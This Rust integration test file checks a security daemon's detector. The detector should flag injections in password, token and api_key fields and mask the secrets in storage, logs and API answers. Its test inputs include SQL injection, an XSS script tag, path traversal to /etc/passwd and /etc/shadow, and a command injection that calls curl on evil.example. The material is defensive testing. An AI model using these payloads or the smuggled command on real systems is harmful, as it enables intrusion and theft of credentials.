//! The detector sees telemetry as it was posted, while everything stored, logged or answered is
//! redacted: an injection typed into a login form's `password` (or hidden in a `password=…` pair of a
//! query or body) raises an alert, and the secret-looking part of it is found nowhere — not in the
//! data directory, the daemon's output, the `/v1/defend` answer, nor `GET /v1/events`, `/v1/alerts`
//! or `/v1/audit`. API telemetry is scored whatever `source` the caller sets.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::Daemon;
use serde_json::{json, Value};
use std::path::Path;

async fn post(d: &Daemon, path: &str, body: &Value) -> (u16, Value, String) {
    let r = d
        .client()
        .post(d.url(path))
        .bearer_auth(&d.key)
        .json(body)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::Null),
        text,
    )
}

async fn get(d: &Daemon, path: &str) -> String {
    let r = d
        .client()
        .get(d.url(path))
        .bearer_auth(&d.key)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{path}");
    r.text().await.unwrap()
}

fn files_containing(dir: &Path, needle: &str) -> Vec<String> {
    let mut hits = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else if std::fs::read(&p)
                .unwrap()
                .windows(needle.len())
                .any(|w| w == needle.as_bytes())
            {
                hits.push(p.display().to_string());
            }
        }
    }
    hits
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_under_secret_keys_are_detected_and_stored_masked() {
    let d = Daemon::start(&[]);
    // Each secret-looking value holds an attack and a unique tail that must never be found.
    let cases: Vec<(Value, &str, &str)> = vec![
        (
            json!({"src_ip": "203.0.113.10", "user": "admin", "password": "' OR 1=1 -- Tail0sqliPw7Q"}),
            "sql_injection",
            "Tail0sqliPw7Q",
        ),
        (
            json!({"src_ip": "203.0.113.11", "query": "user=admin&password=' OR 1=1 --Tail1sqliQs8R"}),
            "sql_injection",
            "Tail1sqliQs8R",
        ),
        (
            json!({"src_ip": "203.0.113.12", "body": json!({"login": "bob", "token": "<script>alert(1)</script>Tail2xssTk9S"}).to_string()}),
            "xss",
            "Tail2xssTk9S",
        ),
        (
            json!({"src_ip": "203.0.113.13", "path": "/download?auth=../../../etc/passwd", "payload": "session=../../etc/shadow?Tail4TrvX1U"}),
            "path_traversal",
            "Tail4TrvX1U",
        ),
        (
            json!({"src_ip": "203.0.113.14", "payload": "api_key=$(curl${IFS}evil.example)Tail5CmdY2V"}),
            "command_injection",
            "Tail5CmdY2V",
        ),
    ];
    let mut tails = Vec::new();
    for (ev, code, tail) in &cases {
        tails.push(*tail);
        let (st, v, text) = post(&d, "/v1/defend", ev).await;
        assert_eq!(st, 200, "{text}\n{}", d.output());
        assert_eq!(v["alerted"], true, "{ev} was not detected: {text}");
        let codes: Vec<&str> = v["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|r| r["code"].as_str())
            .collect();
        assert!(codes.contains(code), "{ev}: no {code} in {text}");
        for t in &tails {
            assert!(!text.contains(t), "{t} in the /v1/defend answer: {text}");
        }
    }
    let mut answers = String::new();
    for path in ["/v1/events?limit=1000", "/v1/alerts?limit=1000"] {
        answers.push_str(&get(&d, path).await);
    }
    let alerts: Value = serde_json::from_str(&get(&d, "/v1/alerts?limit=1000").await).unwrap();
    assert!(
        alerts["items"].as_array().unwrap().len() >= cases.len(),
        "{alerts}"
    );
    for a in alerts["items"].as_array().unwrap() {
        let trace = a["trace_id"].as_str().unwrap();
        answers.push_str(&get(&d, &format!("/v1/audit?trace_id={trace}")).await);
    }
    assert!(answers.contains("***"), "nothing was masked: {answers}");
    for t in &tails {
        assert!(
            !answers.contains(t),
            "{t} served back by the API:\n{answers}"
        );
    }
    let (dir, output) = d.stop();
    for t in &tails {
        assert!(!output.contains(t), "{t} in the daemon's output");
        let hits = files_containing(&dir.path().join("data"), t);
        assert!(hits.is_empty(), "{t} stored in {hits:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn telemetry_is_scored_whatever_its_source() {
    let d = Daemon::start(&[]);
    // `/v1/defend` with a source of its own still gets its answer, and is scored.
    let ev = json!({"src_ip": "203.0.113.20", "source": "sshd", "failed_logins": 40});
    let (st, v, text) = post(&d, "/v1/defend", &ev).await;
    assert_eq!(st, 200, "{text}\n{}", d.output());
    assert_eq!(v["alerted"], true, "{text}");
    assert_eq!(v["scenario"], "credential_bruteforce", "{text}");
    // `/v1/events` items with any source are scored: each raises an alert.
    let items = json!([
        {"src_ip": "203.0.113.21", "source": "sshd", "failed_logins": 40},
        {"src_ip": "203.0.113.22", "source": "nginx", "payload": "id=1 UNION SELECT password FROM users"},
        {"src_ip": "203.0.113.23", "source": "api", "failed_logins": 40},
    ]);
    let (st, v, text) = post(&d, "/v1/events", &items).await;
    assert_eq!(st, 200, "{text}");
    assert_eq!(v["accepted"], 3, "{text}");
    let subjects = common::eventually(std::time::Duration::from_secs(10), || async {
        let alerts: Value = serde_json::from_str(&get(&d, "/v1/alerts?limit=1000").await).unwrap();
        let subjects: Vec<String> = alerts["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["subject"].to_string())
            .collect();
        ["203.0.113.21", "203.0.113.22", "203.0.113.23"]
            .iter()
            .all(|ip| subjects.iter().any(|s| s.contains(ip)))
            .then_some(subjects)
    })
    .await;
    assert!(subjects.iter().any(|s| s.contains("203.0.113.20")));
}
